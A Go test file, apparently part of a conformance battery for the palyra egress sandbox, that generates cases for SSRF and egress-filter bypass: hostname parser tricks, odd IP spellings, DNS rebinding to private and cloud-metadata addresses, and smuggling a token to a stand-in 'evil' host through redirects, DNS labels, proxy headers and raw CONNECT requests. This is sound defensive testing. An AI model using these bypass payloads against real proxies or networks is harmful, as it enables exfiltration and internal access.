package main

import (
	"encoding/hex"
	"fmt"
	"io"
	"net/netip"
	"os"
	"slices"
	"strings"
	"time"

	"palyra/conformance/world"
)

// lending makes the world, in a process of its own that the battery starts for it.
func lending() bool { return world.Lending() }

// neighbour is the probe of a call beside the attempt's, whose lines are not the attempt's.
const neighbour = "neighbour"

// The addresses of the world that the cases need, besides the world's own.
const (
	evil     = "192.31.196.200"  // of hosts that no rule names
	hearPort = "13"              // where the world's servers say that they heard
	httpIn   = "198.18.0.2:3128" // the proxies in a cell
	socksIn  = "198.18.0.2:1080" //
)

// hosts are the names of one attempt, and the world that has them.
type hosts struct {
	s      *stage
	w      *world.Lent
	token  string
	evil   string // a name that no rule has, at evil
	suffix string // rules are about names below it, which are at world.Web
}

func (s *stage) hosts() (*hosts, error) {
	w, err := s.b.inWorld()
	if err != nil {
		return nil, err
	}
	h := &hosts{s: s, w: w, token: nonce(), evil: s.nonce + ".evil.example", suffix: s.nonce + ".cdn.example"}
	w.Set(h.evil, world.Addrs(evil))
	w.Set(h.ok(), world.Addrs(world.Web))
	return h, nil
}

// ok is the one name below suffix that is there.
func (h *hosts) ok() string { return "a." + h.suffix }

// rule is about the names below suffix at a port.
func (h *hosts) rule(port string) []string { return []string{"*." + h.suffix + ":" + port} }

func hexed(s string) string { return hex.EncodeToString([]byte(s)) }

// elsewhere is the canary of the token: the world heard it at another address than these.
func (h *hosts) elsewhere(fine ...string) func(*outcome) (bool, string) {
	return func(*outcome) (bool, string) {
		var at netip.AddrPort
		heard := h.s.seen(func() bool {
			all := h.w.Heard(h.token)
			i := slices.IndexFunc(all, func(a netip.AddrPort) bool { return !slices.Contains(fine, a.Addr().String()) })
			if i >= 0 {
				at = all[i]
			}
			return i >= 0
		})
		return heard, fmt.Sprintf("the host at %v heard it", at)
	}
}

// afterwards is the canary of a token that is on its way when the run has ended.
func (h *hosts) afterwards() func(*outcome) (bool, string) {
	return func(*outcome) (bool, string) {
		time.Sleep(pause) // for what was on its way
		before := len(h.w.Heard(h.token))
		more := func() bool { return len(h.w.Heard(h.token)) > before }
		if h.s.inside {
			time.Sleep(5 * pause)
			return more(), "the host heard it after the end"
		}
		return h.s.seen(more), "the host heard it after the end"
	}
}

// asked is the canary of a question that mustn't come to the world.
func (h *hosts) asked(is func(world.Query) bool) func(*outcome) (bool, string) {
	return func(*outcome) (bool, string) {
		return h.s.seen(func() bool { return slices.ContainsFunc(h.w.Queries(""), is) }), "the world's name server was asked"
	}
}

// askedToken is that of a name with the token in it.
func (h *hosts) askedToken() func(*outcome) (bool, string) {
	return h.asked(func(q world.Query) bool { return strings.Contains(strings.ToLower(q.Name), h.token) })
}

// proxy is the address of the cell's proxy, or of a naive one outside.
func (h *hosts) proxy(via string, words ...string) (string, error) {
	if h.s.inside {
		if via == "socks" {
			return socksIn, nil
		}
		return httpIn, nil
	}
	_, at, err := h.s.handInWorld("naive", words...)
	return at, err
}

// arrive is the attempt to bring the token to a host.
func (h *hosts) arrive(via, host, port string, words ...string) scene {
	return scene{probe: "arrive", args: append([]string{"via=" + via, "host=" + hexed(host), "port=" + port, "token=" + h.token}, words...),
		opt: options{egress: h.rule(hearPort)}, canary: h.elsewhere(world.Web)}
}

// through is arrive by way of a proxy, against a naive one that has these words.
func (h *hosts) through(via, host, port string, words ...string) (scene, error) {
	at, err := h.proxy(strings.TrimSuffix(via, "-address"), words...)
	return h.arrive(via, host, port, "proxy="+at), err
}

// raw is bytes for a proxy as they are.
func (h *hosts) raw(via, bytes string, words ...string) (scene, error) {
	at, err := h.proxy(via, words...)
	return h.arrive("raw", "", hearPort, "proxy="+at, "bytes="+hexed(bytes)), err
}

// reachTable collects cases whose calls have hosts.
type reachTable struct {
	number int
	name   string
	out    []attackCase
}

func (t *reachTable) add(variant, attack, note string, stopped []string, build func(h *hosts) (scene, error)) {
	t.out = append(t.out, attackCase{number: t.number, variant: variant, name: t.name, attack: attack, note: note, stopped: onlyC(stopped...), hosts: true,
		absent: map[string]string{"b": "tier B reaches no hosts"},
		stage: func(s *stage) (scene, error) {
			h, err := s.hosts()
			if err != nil {
				return scene{}, err
			}
			sc, err := build(h)
			if err == nil && sc.opt.others == nil {
				sc.opt.workspace, err = s.workspace()
			}
			return sc, err
		}})
}

// vias are the three ways by which a program can name a host, and how each is refused a name that
// is no name.
var vias = []struct{ via, says string }{{"dns", "NXDOMAIN"}, {"connect", "HTTP400"}, {"socks", "SOCKS2"}}

// reachCases are 91 to 93 and 121 to 131: a call that may reach some hosts tries to reach others.
// Each runs in the world, where its control reaches them; the control of what fools a proxy is a
// proxy that is fooled, remade from those that were. 91 is the attack table's number; cookie-gate
// had it first.
func reachCases() []attackCase {
	var out []attackCase
	for _, f := range []func() []attackCase{spellingCases, leadCases, launderCases, tunnelCases, resolverCases, packetCases, callCases, relayCases, smuggleCases, starveCases, lateCases, serviceCases, valueCases, elsewhereCases} {
		out = append(out, f()...)
	}
	return out
}

// spellingCases are 91: a host that one parser takes for an allowed one and another for another.
func spellingCases() []attackCase {
	t := reachTable{number: 91, name: "egress-parser-diff"}
	for _, v := range []struct {
		how, attack string
		host        func(h *hosts) string
	}{
		{"nul", "a NUL behind it", func(h *hosts) string { return h.evil + "\x00." + h.suffix }},
		{"crlf", "CR LF behind it", func(h *hosts) string { return h.evil + "\r\n." + h.suffix }},
		{"user", "the allowed one as its user", func(h *hosts) string { return h.ok() + "@" + h.evil }},
		{"fragment", "a fragment behind it", func(h *hosts) string { return h.evil + "#." + h.suffix }},
		{"path", "a path behind it", func(h *hosts) string { return h.evil + "/." + h.suffix }},
		{"query", "a query behind it", func(h *hosts) string { return h.evil + "?." + h.suffix }},
		{"backslash", "a backslash behind it", func(h *hosts) string { return h.evil + "\\." + h.suffix }},
		{"space", "a space behind it", func(h *hosts) string { return h.evil + " ." + h.suffix }},
		{"percent", "an encoded NUL behind it", func(h *hosts) string { return h.evil + "%00." + h.suffix }},
		{"percent-path", "an encoded path behind it", func(h *hosts) string { return h.evil + "%2f." + h.suffix }},
		{"wide", "a wide solidus behind it, which normalizes to a path", func(h *hosts) string { return h.evil + "／." + h.suffix }},
		{"xn", "a label that decodes to an allowed one", func(h *hosts) string { return "a." + h.s.nonce + ".xn--cdn-.example" }},
	} {
		for _, w := range vias {
			t.add(v.how+"-"+w.via, "reach a host by "+w.via+" that looks allowed: "+v.attack, "", []string{w.says}, func(h *hosts) (scene, error) {
				host := v.host(h)
				h.w.Set(host, world.Addrs(evil))
				if w.via == "dns" {
					return h.arrive("dns", host, hearPort), nil
				}
				return h.through(w.via, host, hearPort, "allow="+h.suffix)
			})
		}
	}
	for _, v := range []struct {
		how, attack, connect string
		host                 func(h *hosts) string
	}{
		{"dot", "with the root's dot", "HTTP403", func(h *hosts) string { return h.evil + "." }},
		{"upper", "in upper case", "HTTP403", func(h *hosts) string { return strings.ToUpper(h.evil) }},
		{"ideographic", "with ideographic dots", "HTTP400", func(h *hosts) string { return strings.ReplaceAll(h.evil, ".", "。") }},
	} {
		for _, w := range vias {
			says := w.says
			if w.via == "connect" {
				says = v.connect
			}
			t.add(v.how+"-"+w.via, "reach a host by "+w.via+" in another spelling than the one denied: "+v.attack, "", []string{says}, func(h *hosts) (scene, error) {
				if w.via == "dns" {
					h.w.Set(v.host(h), world.Addrs(evil))
					return h.arrive("dns", v.host(h), hearPort), nil
				}
				return h.through(w.via, v.host(h), hearPort, "deny="+h.evil)
			})
		}
	}
	for _, v := range []struct{ how, host, connect string }{
		{"decimal", "167772165", ""}, {"octal", "012.0.0.5", ""}, {"hex", "0xa.0.0.5", ""}, {"hex-whole", "0xa000005", ""}, {"short", "10.5", ""},
		{"mixed", "0xa.5", ""}, {"padded", "10.0.0.05", ""}, {"root", "10.0.0.5.", ""}, {"overflow", "4462739461", ""}, {"encoded", "10.0.0%2e5", ""},
		{"mapped", "[::ffff:10.0.0.5]", ""}, {"mapped-hex", "[::ffff:a00:5]", ""}, {"mapped-long", "[0:0:0:0:0:ffff:a00:5]", ""},
		{"zone", "[fd00:1::5%25world]", ""}, {"zone-raw", "[fd00:1::5%world]", ""}, {"bracket", "[10.0.0.5]", ""},
	} {
		for _, w := range vias[1:] {
			t.add("address-"+v.how+"-"+w.via, "reach a private address by "+w.via+" in an odd spelling: "+v.host, "", []string{w.says}, func(h *hosts) (scene, error) {
				return h.through(w.via, v.host, hearPort, "deny=-")
			})
		}
	}
	for _, v := range []struct{ how, host string }{{"decimal", "167772165"}, {"hex", "0xa000005"}, {"short", "10.5"}, {"octal", "012.0.0.5"}} {
		t.add("address-"+v.how+"-dns", "reach a private address by dns in an odd spelling: "+v.host, "", []string{"NXDOMAIN"}, func(h *hosts) (scene, error) {
			h.w.Set(v.host, world.Addrs(world.Private))
			return h.arrive("dns", v.host, hearPort), nil
		})
	}
	for _, v := range []struct{ how, attack, port string }{
		{"overflow", "a port that is another one modulo 65536", "65549"}, {"padded", "a port with zeros in front", "00013"}, {"sign", "a port with a sign", "+13"},
	} {
		t.add("port-"+v.how+"-connect", "reach a port that no rule names: "+v.attack, "", []string{"HTTP400"}, func(h *hosts) (scene, error) {
			sc, err := h.through("connect", h.ok(), v.port, "allow="+h.suffix)
			sc.opt.egress, sc.canary = h.rule("443"), h.elsewhere()
			return sc, err
		})
	}
	t.add("port-user-connect", "reach a host by connect that looks allowed: the allowed one and its port as the user", "", []string{"HTTP400"}, func(h *hosts) (scene, error) {
		return h.through("connect", h.ok()+":443@"+h.evil, hearPort, "allow="+h.suffix)
	})
	return t.out
}

// leadCases are 92: an allowed name that leads to where none may.
func leadCases() []attackCase {
	t := reachTable{number: 92, name: "rebinding-metadata"}
	set := func(h *hosts, n world.Name) { h.w.Set(h.ok(), n) }
	for _, v := range []struct {
		how, attack string
		addrs       []string
	}{
		{"private", "a private address", []string{world.Private}},
		{"private6", "a unique local address", []string{world.Private6}},
		{"site-local", "a site-local address", []string{"fec0::5"}},
		{"metadata", "a cloud's metadata", []string{world.Metadata}},
		{"mapped", "an IPv4-mapped private address", []string{"::ffff:10.0.0.5"}},
		{"nat64", "a private address in NAT64", []string{"64:ff9b::a00:5"}},
		{"nat64-local", "… in a local NAT64", []string{"64:ff9b:1::a00:5"}},
		{"nat64-metadata", "a cloud's metadata in NAT64", []string{"64:ff9b::a9fe:a9fe"}},
		{"6to4", "a private address in 6to4", []string{"2002:a00:5::1"}},
		{"teredo", "… in Teredo", []string{"2001:0:c01f:c48c::f5ff:fffa"}},
		{"isatap", "… in ISATAP", []string{"2620:4f:8000:1:0:5efe:a00:5"}},
		{"last", "many addresses of which the last is private", append(public(12), world.Private)},
		{"first", "… of which the first is", append([]string{world.Private}, public(12)...)},
		{"family", "public IPv4 addresses and one private IPv6 address", append(public(3), world.Private6)},
	} {
		for _, w := range vias {
			if w.via != "dns" && v.how != "private" && v.how != "metadata" && v.how != "nat64" && v.how != "last" {
				continue
			}
			says := map[string]string{"dns": "NXDOMAIN", "connect": "HTTP403", "socks": "SOCKS2"}[w.via]
			t.add(v.how+"-"+w.via, "reach by "+w.via+" where an allowed name leads: "+v.attack, "one forbidden address refuses all", []string{says}, func(h *hosts) (scene, error) {
				set(h, world.Addrs(v.addrs...))
				var sc scene
				var err error
				if w.via == "dns" {
					sc = h.arrive("dns", h.ok(), hearPort)
				} else {
					sc, err = h.through(w.via, h.ok(), hearPort, "allow="+h.suffix)
				}
				sc.canary = h.elsewhere(public(12)...)
				return sc, err
			})
		}
	}
	for _, v := range []struct {
		how, attack string
		name        func(h *hosts) world.Name
		types       string
	}{
		{"alias", "an alias of a name with a private address", func(h *hosts) world.Name {
			h.w.Set("in."+h.evil, world.Addrs(world.Private))
			return world.Alias("in." + h.evil)
		}, ""},
		{"alias-chain", "… over several aliases", func(h *hosts) world.Name {
			h.w.Set("in."+h.evil, world.Addrs(world.Metadata))
			h.w.Set("b."+h.evil, world.Alias("in."+h.evil))
			h.w.Set("c."+h.evil, world.Alias("b."+h.evil))
			return world.Alias("c." + h.evil)
		}, ""},
		{"second-family", "a public IPv4 address, and a private one where IPv6 is asked", func(h *hosts) world.Name {
			return func(typ string, _ int) world.Reply {
				if typ == "AAAA" {
					return world.Addrs(world.Private6)(typ, 0)
				}
				return world.Addrs(world.Web)(typ, 0)
			}
		}, "AAAA"},
	} {
		t.add(v.how, "reach by dns where an allowed name leads: "+v.attack, "", []string{"NXDOMAIN"}, func(h *hosts) (scene, error) {
			set(h, v.name(h))
			return h.arrive("dns", h.ok(), hearPort, "types="+v.types), nil
		})
	}
	for _, v := range []struct {
		how, attack string
		again       string
		next        string
	}{
		{"rebind", "a public address, and a private one when it is asked again", "1", world.Private},
		{"rebind-metadata", "a public address, and a cloud's metadata when it is asked again", "1", world.Metadata},
		{"rebind-later", "… when it is asked for the fifth time, none to be kept", "4", world.Private},
	} {
		for _, via := range []string{"dns", "connect"} {
			t.add(v.how+"-"+via, "reach by "+via+" where an allowed name leads: "+v.attack, "OPEN: the address of the first answer, which is the only one", []string{"OPEN"}, func(h *hosts) (scene, error) {
				first := world.Addrs(world.Web)
				name := world.Addrs(v.next)
				for range v.again[0] - '0' {
					name = world.Then(first, name)
				}
				set(h, name)
				if via == "dns" {
					return h.arrive("dns", h.ok(), hearPort, "types=A", "again="+v.again), nil
				}
				sc, err := h.through("connect", h.ok(), hearPort, "allow="+h.suffix)
				sc.args = append(sc.args, "before="+v.again)
				return sc, err
			})
		}
	}
	loopback := func(how, addr string) {
		t.add(how, "reach by dns where an allowed name leads: the host's loopback as "+addr, "", []string{"NXDOMAIN"}, func(h *hosts) (scene, error) {
			port, heard, err := h.service()
			set(h, world.Addrs(addr))
			sc := h.arrive("dns", h.ok(), port)
			sc.opt.egress, sc.canary = h.rule(port), heard
			return sc, err
		})
	}
	loopback("loopback", "127.0.0.1")
	loopback("this-host", "0.0.0.0")
	loopback("loopback-mapped", "::ffff:127.0.0.1")
	for _, v := range []struct{ how, host string }{{"metadata", world.Metadata}, {"private", world.Private}, {"private6", world.Private6}, {"public", evil}} {
		t.add("literal-"+v.how, "connect to an address that no rule names: "+v.host, "", []string{"ENETUNREACH"}, func(h *hosts) (scene, error) {
			return h.arrive("literal", v.host, hearPort), nil
		})
		for _, w := range []struct{ via, says string }{{"connect", "HTTP403"}, {"socks", "SOCKS2"}, {"socks-address", "SOCKS2"}} {
			t.add("literal-"+v.how+"-"+w.via, "… by "+w.via, "", []string{w.says}, func(h *hosts) (scene, error) {
				host := v.host
				if w.via != "socks-address" && strings.Contains(host, ":") {
					host = "[" + host + "]"
				}
				return h.through(w.via, host, hearPort, "allow=:"+hearPort)
			})
		}
	}
	return t.out
}

// public are so many public addresses.
func public(n int) []string {
	var out []string
	for i := range n {
		out = append(out, fmt.Sprintf("192.31.196.%d", 140+i))
	}
	return out
}

// service starts one on the loopback interface of the attempt's host, and returns its port and the
// canary that it heard the token.
func (h *hosts) service() (port string, heard func(*outcome) (bool, string), err error) {
	hand, port, err := h.s.handInWorld("service")
	if err != nil {
		return "", nil, err
	}
	l := &listenerOf{s: h.s}
	go l.hear(hand.rest())
	return port, l.heard(h.token), nil
}

// rest is what a helper says after it is ready.
func (h *hand) rest() io.Reader {
	r, w := io.Pipe()
	go func() {
		for h.lines.Scan() {
			w.Write(append(h.lines.Bytes(), '\n'))
		}
		w.Close()
	}()
	return r
}

// launderCases are 93: a secret on its way to a host that may not have it.
func launderCases() []attackCase {
	t := reachTable{number: 93, name: "secret-launder"}
	t.add("redirect", "bring a secret to another host by a redirect of an allowed one", "", []string{"NXDOMAIN"}, func(h *hosts) (scene, error) {
		sc := h.arrive("redirect", h.ok(), "80", "to="+h.evil, "path=/to?http%3A%2F%2F"+h.evil+"%3A"+hearPort+"%2F"+h.token)
		sc.opt.egress = h.rule("80")
		return sc, nil
	})
	t.add("label", "… in a label in front of an allowed name", "", []string{"NXDOMAIN"}, func(h *hosts) (scene, error) {
		return scene{probe: "ask", args: []string{"name=" + hexed(h.token+"."+h.ok()), "type=1", "over=udp"}, opt: options{egress: []string{h.ok() + ":443"}}, canary: h.askedToken()}, nil
	})
	// The record is the receipt, and what palyra says; of a naive proxy what it logs.
	for _, v := range []struct {
		how, attack, says string
		bytes             func(h *hosts) string
	}{
		{"user", "as the user of a host that is denied", "HTTP400", func(h *hosts) string {
			return "CONNECT user:" + h.token + "@" + h.evil + ":13 HTTP/1.1\r\n\r\n"
		}},
		{"query", "in the query of a URL that is denied", "HTTP501", func(h *hosts) string {
			return "GET http://" + h.evil + ":13/?" + h.token + " HTTP/1.1\r\n\r\n"
		}},
		{"header", "in a header of a request that is denied", "HTTP403", func(h *hosts) string {
			return "CONNECT " + h.evil + ":13 HTTP/1.1\r\nProxy-Authorization: Basic " + h.token + "\r\n\r\n"
		}},
	} {
		t.add("record-"+v.how, "leave a secret in the record of the call: "+v.attack, "", []string{v.says}, func(h *hosts) (scene, error) {
			var said func(*outcome) (bool, string)
			at := httpIn
			receipt := h.s.dir + "/receipt.json"
			if !h.s.inside {
				naive, addr, err := h.s.handInWorld("naive", "deny="+h.evil, "log=1")
				if err != nil {
					return scene{}, err
				}
				l := &listenerOf{s: h.s}
				go l.hear(naive.rest())
				at, said = addr, l.heard(h.token)
			} else {
				said = func(o *outcome) (bool, string) {
					b, err := os.ReadFile(receipt)
					if err != nil {
						return true, "no receipt: " + err.Error()
					}
					return strings.Contains(string(b), h.token) || strings.Contains(string(o.stderr.kept), h.token), "it is in the receipt, or palyra said it"
				}
			}
			// In hexadecimal, so that the command line, which the receipt has, doesn't hold it.
			sc := scene{probe: "arrive", args: []string{"via=raw", "proxy=" + at, "token=-", "bytes=" + hexed(v.bytes(h))}, canary: said}
			sc.opt.egress, sc.opt.receipt = h.rule(hearPort), receipt
			return sc, nil
		})
	}
	return t.out
}
